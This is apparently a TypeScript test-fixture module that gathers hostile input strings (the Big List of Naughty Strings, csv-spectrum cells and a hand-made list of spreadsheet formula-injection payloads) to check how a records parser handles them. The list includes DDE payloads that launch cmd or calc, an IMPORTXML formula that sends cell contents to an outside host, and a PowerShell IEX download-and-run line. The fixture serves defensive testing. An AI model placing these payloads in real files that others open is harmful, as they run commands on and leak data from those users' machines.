import { readdirSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import type { Figure } from '#lib/records/model.ts';
import { parseText } from '#lib/values/text.ts';
import { caveat, definition, figure, source } from './made.ts';

const { resolve } = createRequire(import.meta.url);

/** The Big List of Naughty Strings. */
export const naughty = JSON.parse(
  readFileSync(
    join(dirname(resolve('big-list-of-naughty-strings/package.json')), 'blns.json'),
    'utf8',
  ),
) as string[];

/** Every cell of csv-spectrum, as its own answers have them. */
const spectrumHome = join(dirname(resolve('csv-spectrum/package.json')), 'json');
export const spectrum = readdirSync(spectrumHome).flatMap((file) => {
  const answer = JSON.parse(readFileSync(join(spectrumHome, file), 'utf8')) as
    Record<string, string> | Record<string, string>[];
  return [answer].flat().flatMap((row) => [...Object.keys(row), ...Object.values(row)]);
});

/** What has been tried against those who open a file in a spreadsheet, and what lies near it. */
export const formulas = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://example.org?x="&A1,"more")',
  '=IMPORTXML(CONCAT("https://example.org/?v=",CONCATENATE(A2:E2)),"//a")',
  '=IMPORTDATA("https://example.org")',
  '=IMAGE("https://example.org/a.png")',
  '=WEBSERVICE("https://example.org")',
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '+1+1',
  "+cmd|'/C calc'!A0",
  '-1+1',
  "-2+3+cmd|'/C calc'!A0",
  '@SUM(1+1)',
  "@SUM(1+9)*cmd|'/C calc'!A0",
  '=A1&","&A2',
  '="x"&CHAR(9)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=1+1";=2+2',
  '=1+1,=2+2',
  '"=1+1"',
  "'=1+1",
  ';=1+1',
  '=1+1\u00a0;',
  '%0A=1+1',
  "=SUM(1)*cmd|'/C powershell IEX(wget example.org/x)'!A0",
];

/** Whether the seeds would have let it in: what is refused at the door is in no file. */
export function isLetIn(text: string): boolean {
  try {
    parseText(text);
    return true;
  } catch {
    return false;
  }
}

/** A figure that carries the text wherever a seed could have brought it. */
export const carrying = (text: string, i: number): Figure =>
  figure({
    asOf: '2030-01-05',
    statedAs: text,
    note: text,
    locator: text,
    caveats: [caveat({ code: 'made-up', text })],
    definition: definition({ id: `rule-${i}`, text, label: text }),
    source: source({ id: `example-${i}`, title: text, licence: text, relayOf: text }),
  });
